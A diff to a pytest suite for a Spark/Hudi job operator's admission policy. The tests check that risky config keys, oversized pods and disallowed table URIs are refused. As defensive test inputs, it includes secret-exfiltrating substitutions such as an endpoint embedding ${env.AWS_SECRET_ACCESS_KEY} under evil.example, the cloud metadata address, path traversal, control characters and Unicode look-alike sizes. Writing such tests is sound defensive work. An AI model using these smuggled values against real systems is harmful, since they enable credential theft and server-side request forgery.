@@ -32,6 +32,7 @@ from hudi_bucket_operator.policy.job_defaults import JobDefaults
 from hudi_bucket_operator.policy.job_policy import (
     HADOOP_CONF_ALLOWED,
     OWNED_SPARK_CONF,
+    PREFIX_ADMITS,
     SPARK_CONF_ALLOWED,
     Policy,
     admit,
@@ -42,14 +43,18 @@ from hudi_bucket_operator.policy.job_policy import (
 )
 from hudi_bucket_operator.resource import images
 from hudi_bucket_operator.resource.api import KIND
-from hudi_bucket_operator.resource.spark_conf import Setting
+from hudi_bucket_operator.resource.spark_conf import Setting, reason_refused
 from hudi_bucket_operator.resource.spec import parse_spec
-from hudi_bucket_operator.resource.spec.spark import DriverSection, Resources, SparkSection
+from hudi_bucket_operator.resource.spec.spark import Resources, SparkSection
 from hudi_bucket_operator.runtime.settings import OperatorConfig
 from lib.hbt_admission import ADMISSION, CRD_PATH, EXAMPLES, SMALL, with_spec
+from lib.hbt_resources import ANYWHERE
 from lib.paths import s3a_jars
 
-DEFAULTS = JobDefaults(image="registry.example/hudi-job:1.0", spark_version="3.5.8")
+# The admins of these tests let tables be anywhere (ANYWHERE); the operator's own default is nowhere.
+DEFAULTS = JobDefaults(
+    image="registry.example/hudi-job:1.0", spark_version="3.5.8", allowed_table_uris=ANYWHERE
+)
 
 
 def changed(defaults: JobDefaults, **changes: Any) -> JobDefaults:
@@ -143,8 +148,8 @@ KEYS_TRIED = [
     ("hadoopConf", "fs.s3a.s3.client.factory.impl", "refused: names a class or a program for the job to load"),
     ("hadoopConf", "fs.s3a.custom.signers", "refused: names a class or a program for the job to load"),
     ("hadoopConf", "io.compression.codecs", "refused: loads code into the job"),
-    ("hadoopConf", "fs.defaultFS", "refused: is not a tuning setting"),
-    ("hadoopConf", "fs.s3a.signing-algorithm", "refused: is not a tuning setting"),
+    ("hadoopConf", "fs.defaultFS", "refused: chooses the file system"),
+    ("hadoopConf", "fs.s3a.signing-algorithm", "refused: chooses how what the job writes is encrypted, signed"),
     ("hadoopConf", "hadoop.security.authentication", "refused: chooses whose credentials the job uses"),
     ("sparkConf", "spark.hadoop.fs.s3a.endpoint", "refused: points S3A at another server"),
     ("sparkConf", "spark.hadoop.fs.s3a.secret.key", "refused: holds a credential"),
@@ -157,10 +162,10 @@ KEYS_TRIED = [
     ("sparkConf", "spark.extraListeners", "refused: loads code into the job"),
     ("sparkConf", "spark.ssl.keyPassword", "refused: holds a credential"),
     # Spark settings that are no tuning a rescale needs.
-    ("sparkConf", "spark.eventLog.dir", "refused: is not a tuning setting"),
+    ("sparkConf", "spark.eventLog.dir", "refused: sends the job's events, logs or metrics to a sink"),
     ("sparkConf", "spark.local.dir", "refused: is not a tuning setting"),
-    ("sparkConf", "spark.speculation", "refused: is not a tuning setting"),
-    ("sparkConf", "spark.dynamicAllocation.maxExecutors", "refused: is not a tuning setting"),
+    ("sparkConf", "spark.speculation", "refused: races duplicate attempts of a task"),
+    ("sparkConf", "spark.dynamicAllocation.maxExecutors", "refused: sizes the job's pods"),
     ("sparkConf", "spark.sql.adaptive.customCostEvaluatorClass", "refused: names a class or a program"),
     ("sparkConf", "spark.sql.files.maxRecordsPerFile", "refused: is not a tuning setting"),
     # The tuning a rescale needs.
@@ -239,13 +244,17 @@ def test_a_refusal_names_every_key_and_says_how_admins_widen_the_list() -> None:
 
 
 @pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.name)
-def test_the_examples_run_on_a_default_install_once_their_secrets_are_listed(path: pathlib.Path) -> None:
+def test_the_examples_run_on_a_default_install_once_their_secrets_and_locations_are_listed(
+    path: pathlib.Path,
+) -> None:
     policy = OperatorConfig.from_env({}).policy
     tables = [doc for doc in yaml.safe_load_all(path.read_text()) if doc and doc["kind"] == KIND]
     for doc in tables:
         spec, namespace = parse_spec(doc["spec"]), doc["metadata"]["namespace"]
         secrets = {namespace: spec.spark.secret_names}
-        admit(spec, namespace, replace(policy, jobs=changed(policy.jobs, allowed_secrets=secrets)))
+        locations = {namespace: (spec.table.uri,)}
+        jobs = changed(policy.jobs, allowed_secrets=secrets, allowed_table_uris=locations)
+        admit(spec, namespace, replace(policy, jobs=jobs))
         if spec.spark.secret_names:  # the example says the admins must list them
             assert "jobs.allowedSecrets" in path.read_text()
 
@@ -265,7 +274,8 @@ WIDENED = [
     ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.proxy.host", False),
     ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.endpoint", False),
     ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.aws.credentials.provider", False),
-    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.signing-algorithm", True),  # no reason given
+    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.signing-algorithm", False),
+    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.multiobjectdelete.enable", True),  # vetted
     ({"allowed_hadoop_conf": ("fs.s3a.proxy.host",)}, "hadoopConf", "fs.s3a.proxy.host", True),
     ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.secret.key", False),  # a credential
     ({"allowed_hadoop_conf": ("fs.s3a.",)}, "sparkConf", "spark.hadoop.fs.s3a.session.token", False),
@@ -282,7 +292,7 @@ WIDENED = [
     ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.kubernetes.driver.volumes.hostPath.h.mount.path",
      False),
     ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.hadoop.fs.s3a.endpoint", False),
-    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.eventLog.enabled", True),  # no reason given
+    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.eventLog.enabled", True),  # vetted tuning
     ({"allowed_spark_conf": ("spark.jars",)}, "sparkConf", "spark.jars", True),
     # A Hadoop setting in sparkConf is judged by the Hadoop rules: an admin's sparkConf prefix never reaches it.
     ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.hadoop.fs.s3a.impl", False),
@@ -295,7 +305,8 @@ WIDENED = [
     ({"allowed_hadoop_conf": ("fs.s3a.impl",)}, "hadoopConf", "fs.s3a.impl", True),
     ({"allowed_spark_conf": ("spark.sql.",)}, "sparkConf", "spark.sql.catalog.spark_catalog", False),
     ({"allowed_spark_conf": ("spark.sql.",)}, "sparkConf", "spark.sql.sources.commitProtocolClass", False),
-    ({"allowed_spark_conf": ("spark.sql.",)}, "sparkConf", "spark.sql.cbo.enabled", True),
+    ({"allowed_spark_conf": ("spark.sql.",)}, "sparkConf", "spark.sql.cbo.enabled", False),  # not vetted
+    ({"allowed_spark_conf": ("spark.sql.cbo.enabled",)}, "sparkConf", "spark.sql.cbo.enabled", True),
     ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.serializer", False),
     ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.pyspark.python", False),
     ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.driver.resource.gpu.discoveryScript", False),
@@ -311,8 +322,60 @@ def test_admins_widen_the_lists_by_exact_keys_and_prefixes(
     entries: dict[str, tuple[str, ...]], where: str, key: str, allowed: bool
 ) -> None:
     defaults = changed(DEFAULTS, **entries)
-    assert (refusal({where: {key: "x"}}, defaults) == "") is allowed
-    assert refusal({where: {key: "x"}}) != ""  # not without them
+    vetted = next((rule.value for rule in PREFIX_ADMITS if rule.covers(key) and rule.value), None)
+    value = vetted.example if vetted else "x"  # a vetted key takes the values it lists
+    assert (refusal({where: {key: value}}, defaults) == "") is allowed
+    assert refusal({where: {key: value}}) != ""  # not without them
+
+
+# Keys that load code, reach an address, or choose credentials, keys, redaction or sinks: refused for a
+# reason under the README's own prefixes (spark., fs.s3a.), which admit only vetted tuning.
+UNDER_A_PREFIX = [
+    ("sparkConf", "spark.repl.class.uri", "loads code into the job"),
+    ("sparkConf", "spark.executor.userClassPathFirst", "loads code into the job"),
+    ("sparkConf", "spark.plugins.defaultList", "loads code into the job"),
+    ("sparkConf", "spark.sql.cache.serializer", "loads code into the job"),
+    ("sparkConf", "spark.python.daemon.module", "loads code into the job"),
+    ("sparkConf", "spark.python.worker.module", "loads code into the job"),
+    ("sparkConf", "spark.redaction.regex", "chooses what is redacted"),
+    ("sparkConf", "spark.sql.redaction.string.regex", "chooses what is redacted"),
+    ("sparkConf", "spark.eventLog.dir", "sends the job's events, logs or metrics to a sink"),
+    ("sparkConf", "spark.metrics.conf", "sends the job's events, logs or metrics to a sink"),
+    ("sparkConf", "spark.executor.memory", "sizes the job's pods"),
+    ("sparkConf", "spark.executor.instances", "sizes the job's pods"),
+    ("sparkConf", "spark.dynamicAllocation.enabled", "sizes the job's pods"),
+    ("sparkConf", "spark.ui.reverseProxyUrl", "names an address the job would reach"),
+    ("sparkConf", "spark.sql.files.ignoreCorruptFiles", "is not vetted tuning"),
+    ("hadoopConf", "fs.s3a.audit.service.classname", "loads code into the job"),
+    ("hadoopConf", "fs.s3a.audit.request.handlers", "loads code into the job"),
+    ("hadoopConf", "fs.s3a.delegation.token.binding", "chooses whose credentials the job uses"),
+    ("hadoopConf", "fs.s3a.security.credential.provider.path", "chooses whose credentials the job uses"),
+    ("hadoopConf", "fs.s3a.encryption.key", "holds a credential"),
+    ("hadoopConf", "fs.s3a.encryption.algorithm", "chooses how what the job writes is encrypted"),
+    ("hadoopConf", "fs.s3a.acl.default", "chooses how what the job writes is encrypted, signed or shared"),
+    ("hadoopConf", "fs.s3a.user.agent.prefix", "is not vetted tuning"),
+]
+
+
+@pytest.mark.parametrize(("where", "key", "why"), UNDER_A_PREFIX, ids=[k for _, k, _ in UNDER_A_PREFIX])
+def test_a_prefix_admits_only_vetted_tuning_whatever_spark_or_hadoop_read_under_it(
+    where: str, key: str, why: str
+) -> None:
+    prefixes = changed(DEFAULTS, allowed_spark_conf=("spark.",), allowed_hadoop_conf=("fs.s3a.",))
+    said = refusal({where: {key: "v4lue"}}, prefixes)
+    assert f"{where}[{key!r}] {why}" in said, said
+    assert "v4lue" not in said
+    exact = changed(DEFAULTS, allowed_spark_conf=(key,), allowed_hadoop_conf=(key,))
+    if "credential" not in why:  # the admins may still name one exactly, but never an inline credential
+        assert refusal({where: {key: "v4lue"}}, exact) == ""
+
+
+def test_every_key_a_prefix_admits_is_vetted_typed_and_none_refused_for_a_reason() -> None:
+    for rule in PREFIX_ADMITS:
+        assert not rule.key.endswith("."), rule
+        assert rule.value is not None, rule.key  # typed: a prefix's key takes the values it lists
+        assert reason_refused(rule.key) == "", rule.key
+        assert not any(s.covers(rule.key) for s in OWNED_SPARK_CONF), rule.key
 
 
 def test_the_admins_own_settings_are_not_checked() -> None:
@@ -366,7 +429,7 @@ def _class_files_text() -> bytes:
     return bytes(text)
 
 
-def test_every_allowed_and_owned_key_is_one_spark_hadoop_or_parquet_reads() -> None:
+def test_every_allowed_vetted_and_owned_key_is_one_spark_hadoop_or_parquet_reads() -> None:
     """A misspelt key on the list would allow nothing, and refuse what the author meant."""
     from hudi_bucket.storage.native_s3 import SWITCH
 
@@ -374,7 +437,7 @@ def test_every_allowed_and_owned_key_is_one_spark_hadoop_or_parquet_reads() -> N
     ours = {SWITCH}
     unknown = [
         rule.key
-        for rule in (*SPARK_CONF_ALLOWED, *HADOOP_CONF_ALLOWED, *OWNED_SPARK_CONF)
+        for rule in (*SPARK_CONF_ALLOWED, *HADOOP_CONF_ALLOWED, *PREFIX_ADMITS, *OWNED_SPARK_CONF)
         if rule.key not in ours and rule.key.encode() not in text
     ]
     assert unknown == []
@@ -622,7 +685,9 @@ def test_each_allowed_key_takes_its_kind_of_value_and_refuses_others_without_ech
 
 
 def test_no_value_may_hold_a_substitution_whoever_allows_its_key() -> None:
-    defaults = changed(DEFAULTS, allowed_hadoop_conf=("fs.s3a.endpoint",), allowed_spark_conf=("spark.ui.",))
+    defaults = changed(
+        DEFAULTS, allowed_hadoop_conf=("fs.s3a.endpoint",), allowed_spark_conf=("spark.ui.port",)
+    )
     spark = {
         "hadoopConf": {"fs.s3a.endpoint": "https://${env.AWS_SECRET_ACCESS_KEY}.evil.example"},
         "sparkConf": {"spark.ui.port": "${env:PASSWORD}", "spark.hadoop.fs.s3a.connection.maximum": "${x}"},
@@ -637,27 +702,71 @@ def test_no_value_may_hold_a_substitution_whoever_allows_its_key() -> None:
         assert any("must not hold '${'" in e for e in ADMISSION.errors(table({where: conf}))), where
 
 
-@pytest.mark.parametrize(
-    ("key", "value", "refused"),
-    [
-        ("spark.executor.memoryOverhead", "32g", False),  # the largest executor memory
-        ("spark.executor.memoryOverhead", "33g", True),
-        ("spark.executor.memoryOverhead", "32769", True),  # a bare number is MiB
-        ("spark.driver.memoryOverhead", "16g", False),
-        ("spark.driver.memoryOverhead", "17g", True),
-        ("spark.memory.offHeap.size", "34359738368", False),  # a bare number is bytes: 32g
-        ("spark.memory.offHeap.size", "99999999g", True),
-        ("spark.executor.pyspark.memory", "1t", True),
-    ],
-)
-def test_memory_a_setting_adds_to_a_pod_is_bounded_by_the_largest_allowed(
-    key: str, value: str, refused: bool
+def resources_refusal(spark: dict[str, Any], defaults: JobDefaults = DEFAULTS) -> str:
+    """What the operator says when the pods this spec.spark asks for are over the admins' limits."""
+    try:
+        job_settings(SparkSection.model_validate(spark), defaults)
+    except ResourcesNotAllowedError as err:
+        return str(err)
+    return ""
+
+
+# (spec.spark, refused?): the pod is the heap and what Spark adds to it (the jobs are PySpark, so the
+# overhead is 0.4 of the heap, at least 384 MiB, unless set); the admins' limits are 16g and 32g.
+PODS = [
+    ({"executor": {"memory": "22g"}}, False),  # 22g + 8.8g overhead = 30.8g
+    ({"executor": {"memory": "23g"}}, True),  # 23g + 9.2g = 32.2g
+    ({"executor": {"memory": "31g"}, "sparkConf": {"spark.executor.memoryOverhead": "1g"}}, False),
+    ({"executor": {"memory": "31g"}, "sparkConf": {"spark.executor.memoryOverhead": "1025m"}}, True),
+    ({"executor": {"memory": "31g"}, "sparkConf": {"spark.executor.memoryOverhead": "1025"}}, True),  # MiB
+    ({"executor": {"memory": "28g"}, "sparkConf": {"spark.executor.memoryOverheadFactor": "0.1"}}, False),
+    ({"executor": {"memory": "30g"}, "sparkConf": {"spark.kubernetes.memoryOverheadFactor": "0.1"}}, True),
+    ({"executor": {"memory": "16g"}, "sparkConf": {"spark.executor.memoryOverheadFactor": "1"}}, False),
+    ({"executor": {"memory": "17g"}, "sparkConf": {"spark.executor.memoryOverheadFactor": "1"}}, True),
+    # The issue's 128g pod: 32g + 32g overhead + 32g off-heap + 32g Python, against a 32g limit.
+    ({"executor": {"memory": "32g"}, "sparkConf": {"spark.executor.memoryOverhead": "32g",
+      "spark.memory.offHeap.enabled": "true", "spark.memory.offHeap.size": "32g",
+      "spark.executor.pyspark.memory": "32g"}}, True),
+    ({"executor": {"memory": "8g"}, "sparkConf": {"spark.executor.memoryOverhead": "8g",
+      "spark.memory.offHeap.enabled": "true", "spark.memory.offHeap.size": "8589934592",  # bytes: 8g
+      "spark.executor.pyspark.memory": "8g"}}, False),
+    ({"executor": {"memory": "8g"}, "sparkConf": {"spark.executor.memoryOverhead": "8g",
+      "spark.memory.offHeap.size": "99999g", "spark.executor.pyspark.memory": "8g"}}, False),  # off-heap off
+    ({"driver": {"memory": "11g"}}, False),  # 11g + 4.4g = 15.4g
+    ({"driver": {"memory": "12g"}}, True),
+    ({"driver": {"memory": "1g"}, "sparkConf": {"spark.driver.memoryOverhead": "15g"}}, False),
+    ({"driver": {"memory": "1g"}, "sparkConf": {"spark.driver.memoryOverhead": "16g"}}, True),
+    # An executor's off-heap and Python memory are not the driver's.
+    ({"driver": {"memory": "2g"}, "sparkConf": {"spark.memory.offHeap.enabled": "true",
+      "spark.memory.offHeap.size": "13g"}}, False),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("asked", "refused"), PODS)
+def test_a_pods_memory_is_what_spark_asks_for_it_and_is_bounded_by_the_admins_limit(
+    asked: dict[str, Any], refused: bool
 ) -> None:
-    said = refusal({"sparkConf": {key: value}})
+    said = resources_refusal(asked)
     assert bool(said) is refused, said
     if refused:
-        assert "no larger than" in said
-        assert value not in said
+        assert "with what Spark adds to its pod: " in said
+        assert " overhead" in said
+        assert " = " in said
+
+
+@pytest.mark.parametrize("look_alike", ["40000000\u212a", "4\u212ab", "1\uff47", "\u0661g", "32g\u200b"])
+@pytest.mark.parametrize(
+    "key",
+    ["spark.executor.memoryOverhead", "spark.driver.memoryOverhead", "spark.memory.offHeap.size",
+     "spark.executor.pyspark.memory", "spark.sql.files.maxPartitionBytes"],
+)  # fmt: skip
+def test_a_size_is_read_in_ascii_as_spark_reads_it_and_one_the_policy_cannot_read_is_refused(
+    key: str, look_alike: str
+) -> None:
+    """Java lower-cases the KELVIN SIGN to 'k': 40000000\u212a would be 38 GiB to Spark, which a
+    Unicode-aware check then could not size."""
+    said = refusal({"sparkConf": {key: look_alike}})
+    assert f"sparkConf[{key!r}] must be a size in Spark's format" in said, said
 
 
 # --- resources --------------------------------------------------------------------------------------------
@@ -665,27 +774,28 @@ def test_memory_a_setting_adds_to_a_pod_is_bounded_by_the_largest_allowed(
 
 def test_a_driver_or_executors_over_the_admins_limits_are_refused_naming_each() -> None:
     driver = {"cores": 5, "memory": "99999999g"}
-    spark = SparkSection.model_validate(
-        {"driver": driver, "executor": {"cores": 256, "memory": "33g", "instances": 1000}}
-    )
-    with pytest.raises(ResourcesNotAllowedError) as caught:
-        job_settings(spark, DEFAULTS)
-    said = str(caught.value)
+    spark = {"driver": driver, "executor": {"cores": 256, "memory": "33g", "instances": 1000}}
+    said = resources_refusal({**spark, "ttlSeconds": 31536000})
     for problem in (
         "spec.spark.driver.cores 5 is over 4",
-        "spec.spark.driver.memory 99999999g is over 16g",
+        "spec.spark.driver.memory 99999999g is over 16g with what Spark adds to its pod: ",
         "spec.spark.executor.cores 256 is over 8",
-        "spec.spark.executor.memory 33g is over 32g",
+        "spec.spark.executor.memory 33g is over 32g with what Spark adds to its pod: 33.0 GiB heap + "
+        "13.2 GiB overhead = 46.2 GiB",
         "spec.spark.executor.instances 1000 is over 50",
+        "spec.spark.ttlSeconds 31536000 is over 604800",
     ):
         assert problem in said
-    assert "jobs.limits" in caught.value.hint
     at_most = SparkSection.model_validate(
-        {"driver": {"cores": 4, "memory": "16g"}, "executor": {"cores": 8, "memory": "32g", "instances": 50}}
-    )
-    assert job_settings(at_most, DEFAULTS).executor == Resources(8, "32g", 50)
-    wider = changed(DEFAULTS, max_executor_cores=256, max_executor_memory="1t", max_executor_instances=1000)
-    job_settings(spark.model_copy(update={"driver": DriverSection()}), wider)
+        {"driver": {"cores": 4, "memory": "11g"}, "executor": {"cores": 8, "memory": "22g", "instances": 50},
+         "ttlSeconds": 604800}
+    )  # fmt: skip
+    assert job_settings(at_most, DEFAULTS).executor == Resources(8, "22g", 50)
+    wider = changed(
+        DEFAULTS, max_executor_cores=256, max_executor_memory="1t", max_executor_instances=1000,
+        max_ttl_seconds=31536000,
+    )  # fmt: skip
+    job_settings(SparkSection.model_validate({**spark, "driver": {}, "ttlSeconds": 31536000}), wider)
 
 
 def test_defaults_over_the_limits_stop_the_operator_at_start() -> None:
@@ -714,7 +824,7 @@ SECRETS = Policy(changed(DEFAULTS, allowed_secrets={"lake": ("lake-s3",), "*": (
 @pytest.mark.parametrize(
     ("secret", "namespace", "policy", "allowed"),
     [
-        ("lake-s3", "lake", Policy(), False),  # none by default
+        ("lake-s3", "lake", DEFAULT_POLICY, False),  # none by default
         ("lake-s3", "lake", SECRETS, True),
         ("lake-s3", "sales", SECRETS, False),  # another namespace's
         ("shared-ro", "sales", SECRETS, True),  # every namespace's
@@ -738,22 +848,33 @@ def test_a_secret_becomes_a_jobs_environment_only_if_the_admins_list_it_for_the_
 TEAMS = Policy(changed(DEFAULTS, allowed_table_uris={"*": (), "team-a": ("s3a://lake/team-a", "/data/a/")}))
 # (uri, namespace, policy, admitted?): each attack on the rule, and what the rule says of it.
 URIS_TRIED = [
-    ("s3a://lake/warehouse/orders", "lake", Policy(), True),
-    ("/data/orders", "lake", Policy(), True),
-    ("file:///data/orders", "lake", Policy(), True),
-    ("file:/data/orders", "lake", Policy(), True),
-    ("http://169.254.169.254/latest/meta-data/iam", "lake", Policy(), False),  # the node's metadata service
-    ("https://evil.example/table", "lake", Policy(), False),
-    ("hdfs://namenode/warehouse/orders", "lake", Policy(), False),  # not by default
-    ("s3://lake/orders", "lake", Policy(), False),
-    ("S3A://lake/orders", "lake", Policy(), False),  # compared as written
-    ("data/orders", "lake", Policy(), False),  # relative: to the job's working directory
-    ("s3a://key:s3cret@lake/orders", "lake", Policy(), False),  # credentials in the URI
-    ("s3a://lake/warehouse/../../other/orders", "lake", Policy(), False),
-    ("/data/./orders", "lake", Policy(), False),
-    ("s3a://lake/or ders", "lake", Policy(), False),
-    ("s3a://lake/or\\ders", "lake", Policy(), False),
-    ("s3a://lake/or\nders", "lake", Policy(), False),
+    ("s3a://lake/warehouse/orders", "lake", DEFAULT_POLICY, True),
+    ("/data/orders", "lake", DEFAULT_POLICY, True),
+    ("file:///data/orders", "lake", DEFAULT_POLICY, True),
+    ("file:/data/orders", "lake", DEFAULT_POLICY, True),
+    (
+        "http://169.254.169.254/latest/meta-data/iam",
+        "lake",
+        DEFAULT_POLICY,
+        False,
+    ),  # the node's metadata service
+    ("https://evil.example/table", "lake", DEFAULT_POLICY, False),
+    ("hdfs://namenode/warehouse/orders", "lake", DEFAULT_POLICY, False),  # not by default
+    ("s3://lake/orders", "lake", DEFAULT_POLICY, False),
+    ("S3A://lake/orders", "lake", DEFAULT_POLICY, False),  # compared as written
+    ("data/orders", "lake", DEFAULT_POLICY, False),  # relative: to the job's working directory
+    ("s3a://key:s3cret@lake/orders", "lake", DEFAULT_POLICY, False),  # credentials in the URI
+    ("s3a://lake/warehouse/../../other/orders", "lake", DEFAULT_POLICY, False),
+    ("/data/./orders", "lake", DEFAULT_POLICY, False),
+    ("s3a://lake/or ders", "lake", DEFAULT_POLICY, False),
+    ("s3a://lake/or\\ders", "lake", DEFAULT_POLICY, False),
+    ("s3a://lake/or\nders", "lake", DEFAULT_POLICY, False),
+    ("s3a://lake/${env:AWS_SECRET_ACCESS_KEY}/t", "lake", DEFAULT_POLICY, False),  # Spark SQL would read it
+    ("/data/${env:HOME}", "lake", DEFAULT_POLICY, False),
+    ("s3a://lake/or\x9bders", "lake", DEFAULT_POLICY, False),  # a C1 control (CSI)
+    ("/data/team-a/../team-b/x://y", "lake", DEFAULT_POLICY, False),  # a '://' further in is a path
+    ("/data/x://y@z/t", "lake", DEFAULT_POLICY, True),  # no authority: '@' is part of a folder's name
+    ("s3a://lake/orders", "lake", Policy(), False),  # the operator's default: nowhere
     ("s3a://lake/team-a", "team-a", TEAMS, True),
     ("s3a://lake/team-a/orders", "team-a", TEAMS, True),
     ("s3a://lake/team-ab/orders", "team-a", TEAMS, False),  # the prefix of a name is not its folder
@@ -773,5 +894,18 @@ def test_a_table_is_only_where_the_admins_let_its_namespace_have_tables(
 ) -> None:
     said = admitted(with_spec(SMALL, "table.uri", uri)["spec"], namespace, policy)
     assert (said == "") is allowed, said
-    if not allowed:
-        assert said.startswith("TableUriNotAllowedError: spec.table.uri ")
+    if not allowed:  # refused by the spec's own model when no admin could allow it ('${', controls)
+        assert said.startswith(
+            ("TableUriNotAllowedError: spec.table.uri ", "InvalidSpecError: spec.table.uri ")
+        )
+        assert "HOME" not in said
+        assert "\x9b" not in said
+
+
+def test_no_table_is_allowed_until_the_admins_name_where_each_namespaces_tables_are() -> None:
+    said = admitted(SMALL["spec"], "lake", Policy())
+    assert said.startswith(
+        "TableUriNotAllowedError: spec.table.uri 's3a://lake/warehouse/customers' is not where tables of "
+        "this namespace may be: the admins allow them nowhere yet (no table is allowed until they name where "
+        "each namespace's tables are: Helm values jobs.allowedTableUris, HBO_ALLOWED_TABLE_URIS)"
+    )
